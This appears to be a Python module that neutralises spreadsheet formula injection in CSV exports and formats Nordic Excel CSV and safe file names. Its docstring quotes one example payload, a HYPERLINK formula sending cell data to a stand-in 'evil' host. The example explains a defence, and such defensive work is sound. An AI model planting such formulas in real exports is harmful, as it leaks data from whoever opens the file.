"""CSV files that are safe to open in a spreadsheet: every CSV Avtale writes goes through here.

Formula injection: a spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
(some also after a leading tab, carriage return or NUL) as a formula, so a customer name
such as ``=HYPERLINK("http://evil/?"&A1)`` in a CRM export would run on the machine of
whoever opens the download. ``neutralise`` prefixes such *text* with a single quote, the
prefix spreadsheets read as "this is text" (OWASP, CSV injection).

Only text (``str``) is neutralised. Numbers (``int``, ``float``, ``Decimal``), dates and
the other typed values a query returns are written as values: a negative amount must stay
a number a spreadsheet can sum, and its digits come from the database's number type, not
from text anyone typed. So ``-1200.5`` as a number is written as is, while the text
``'-1200.5'`` (a VARCHAR) gets the prefix.

Two dialects:
- ``write_csv``: plain RFC 4180 with ``,`` and ``.`` decimals, unrounded, for scripts
  (``avtale sql``, the app's "Download CSV").
- ``excel_csv``: for Excel with Nordic settings: UTF-8 with a byte-order mark (else Excel
  reads ``ø`` as ``Ã¸``), ``;`` between fields, decimal comma, amounts rounded half up
  to øre, dates as ISO days.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Collection, Iterable, Mapping, Sequence
from datetime import date, datetime, time
from decimal import ROUND_HALF_UP, Decimal
from typing import TextIO

# The characters a spreadsheet may start a formula with: OWASP's list, and NUL (OWASP ASVS
# 1.2.10), which some readers drop, leaving the formula behind it first.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
TEXT_PREFIX = "'"
ORE = Decimal("0.01")
# Longest file name we offer: browsers and file systems allow 255 bytes; leave room
# for the " (1)" a browser adds to a second download of the same name.
MAX_FILE_NAME = 150


def neutralise(value: object) -> object:
    """``value`` with a quote in front if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return TEXT_PREFIX + value
    return value


def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> None:
    """Plain CSV (``,``, ``.`` decimals, values as they are) with every text cell neutralised.
    A missing value (None) is an empty field."""
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([neutralise(name) for name in header])
    for row in rows:
        writer.writerow([neutralise(value) for value in row])


def excel_csv(
    header: Sequence[str], rows: Iterable[Sequence[object]], money: Collection[str] = ()
) -> bytes:
    """CSV for Excel with Nordic settings; the columns named in ``money`` are rounded to øre.
    Rows hold Python values, None for a missing one."""
    rounded = [name in money for name in header]
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow([neutralise(name) for name in header])
    for row in rows:
        writer.writerow(
            [excel_cell(value, is_money) for value, is_money in zip(row, rounded, strict=True)]
        )
    return out.getvalue().encode("utf-8-sig")


def excel_cell(value: object, money: bool = False) -> object:
    """One value as Excel with Nordic settings reads it."""
    if value is None:
        return ""
    if isinstance(value, bool):  # before int: a bool is an int to Python
        return str(value)
    if isinstance(value, float | Decimal):
        return _decimal_comma(value, money)
    if isinstance(value, datetime):
        if value.time() == time() and value.tzinfo is None:
            return value.date().isoformat()
        return value.isoformat(sep=" ")
    if isinstance(value, date):
        return value.isoformat()
    return neutralise(value)


def _decimal_comma(value: float | Decimal, money: bool) -> str:
    # repr gives the shortest digits that read back as the same float, so 2.675 rounds
    # up to 2.68 as a person expects, not down by its binary value.
    number = value if isinstance(value, Decimal) else Decimal(repr(value))
    if not number.is_finite():
        return ""
    if money:
        number = number.quantize(ORE, rounding=ROUND_HALF_UP)
    if number.is_zero():
        number = abs(number)  # no "-0,00"
    return format(number, "f").replace(".", ",")


def file_name(stem: str, filters: Mapping[str, Sequence[str]], suffix: str = ".csv") -> str:
    """``stem`` with the active filters, e.g. ``mrr_owner-Kari-Nordmann_country-NO+SE.csv``.
    Letters and digits of any language, ``_``, ``-`` and inner dots stay, the rest becomes
    ``-`` (no path, no quote); a filter whose values would make the name too long is given
    by their count (``owner-12-values``)."""
    parts = [_safe(stem) or "export"]
    for name, values in filters.items():
        if not values:
            continue
        picked = "+".join(_safe(value) or "blank" for value in values)
        parts.append(f"{_safe(name)}-{picked}")
        if len("_".join(parts)) + len(suffix) > MAX_FILE_NAME:
            parts[-1] = f"{_safe(name)}-{len(values)}-values"
    return "_".join(parts)[: MAX_FILE_NAME - len(suffix)] + suffix


def _safe(text: str) -> str:
    return re.sub(r"[^\w.-]+", "-", text).strip(".-")
